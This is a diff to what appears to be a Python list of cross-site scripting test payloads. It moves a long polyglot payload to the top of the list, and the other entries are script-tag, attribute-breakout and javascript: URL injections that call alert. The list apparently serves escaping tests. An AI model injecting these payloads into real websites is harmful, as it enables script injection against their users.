@@ -1,6 +1,10 @@
-"""Texts that run as script wherever something forgets to escape. Each tells `alert` or a request to /hit."""
+"""Texts that run as script wherever something forgets to escape. Each tells `alert` or a request to /hit.
+
+The first has the longest word: whatever is called so must not hang over a phone."""
 
 BASE = [
+    "jaVasCript:/*-/*`/*\\`/*'/*\"/**/(/* */oNcliCk=alert({n}) )//%0D%0A%0d%0a//</stYle/</titLe/"
+    "</teXtarEa/</scRipt/--!>\\x3csVg/<sVg/oNloAd=alert({n})//>\\x3e",
     "<script>alert({n})</script>",
     "\"><script>alert({n})</script>",
     "'><script>alert({n})</script>",
@@ -43,8 +47,6 @@ BASE = [
     "<embed src=javascript:alert({n})>",
     "<form action=javascript:alert({n})><button>x</button></form>",
     "javascript:alert({n})//",
-    "jaVasCript:/*-/*`/*\\`/*'/*\"/**/(/* */oNcliCk=alert({n}) )//%0D%0A%0d%0a//</stYle/</titLe/"
-    "</teXtarEa/</scRipt/--!>\\x3csVg/<sVg/oNloAd=alert({n})//>\\x3e",
     "-->'\"/></sCript><svG x=\">\" onload=(co\\u006efirm)({n})>",
     "\";alert({n});//",
     "';alert({n});//",
